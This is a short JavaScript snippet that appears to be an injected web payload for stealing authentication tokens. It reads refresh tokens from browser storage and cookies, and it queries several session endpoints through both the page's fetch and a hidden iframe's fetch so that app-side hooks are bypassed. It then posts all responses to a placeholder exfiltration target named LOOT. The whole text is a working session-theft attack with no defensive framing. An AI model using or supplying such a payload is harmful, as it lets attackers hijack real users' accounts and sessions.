// Requests tokens as the app does, also with the functions of a new frame, which the app cannot have replaced.
(async () => {
  const frame = document.createElement("iframe");
  frame.hidden = true;
  document.body.append(frame);
  const kept = JSON.parse(localStorage.getItem("tokens") ?? sessionStorage.getItem("tokens") ?? "{}");
  const body = JSON.stringify({ refresh_token: kept.refresh_token ?? document.cookie.match(/refresh_token=([^;]*)/)?.[1] ?? "" });
  const answers = [];
  const headers = { "Content-Type": "application/json" };
  const questions = [["/refresh", body], ["/auth/refresh", "{}"], ["/auth/session"], ["/auth/check"], ["/auth/sessions"]];
  for (const [path, body] of questions) {
    for (const ask of [fetch, frame.contentWindow.fetch.bind(frame.contentWindow)]) {
      const response = await ask(new URL(path, location.href), { method: body ? "POST" : "GET", headers, body });
      answers.push(path, response.status, JSON.stringify([...response.headers]), await response.text());
    }
  }
  await fetch(LOOT, { method: "POST", mode: "no-cors", body: answers.join(" ") });
})();
